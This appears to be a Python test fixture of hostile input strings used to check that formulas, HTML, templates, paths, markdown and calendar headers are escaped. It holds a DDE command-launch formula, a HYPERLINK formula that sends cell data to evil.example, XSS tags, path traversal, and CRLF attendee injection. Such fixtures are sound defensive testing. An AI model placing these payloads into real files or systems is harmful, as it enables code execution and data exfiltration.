"""Names as nobody should have them: each would be a formula, a tag, a template, a header or a path, if it could."""

NAMES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "</style></title><b>x",
    "<!--",
    "&lt;b&gt; &amp; &#60;",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{name}",
    "{0.__class__}",
    "%(name)s %s",
    "../../../etc/passwd",
    "..\\..\\x",
    "C:\\x:y|z?*",
    "[x](javascript:alert(1))",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "::: box",
    "**x** | # ^a `b` ~~c~~ [^1]",
    "x;ATTENDEE=1:mailto:evil@evil.example",
    "a,b;c\\n\\, BEGIN:VEVENT",
    "x\\r\\nATTENDEE:mailto:evil@evil.example",
    "mailto:evil@evil.example?bcc=x@evil.example",
    "\"quoted\" 'it' מנכ\"ל ג'ורג'",
    "العربية Tel-Aviv עברית 123",
    "]]>",
    "url(https://evil.example/a)",
    "${x} $(x) `x`",
    "_x000D_ _x0041_",
    "#REF!",
    "TRUE",
    "1e5",
    "0031",
    " x ",
    "null",
    "~",
)
"""No control characters and no bidi controls: those are refused where data are read (`forbidden-character`)."""
LINES = "x\r\nATTENDEE:mailto:evil@evil.example\r\nBEGIN:VEVENT\r\n"
"""What would end a header's line; long texts may hold line feeds."""
EVIL = "evil.example"
"""The host that no output may link to, load from, or write to."""
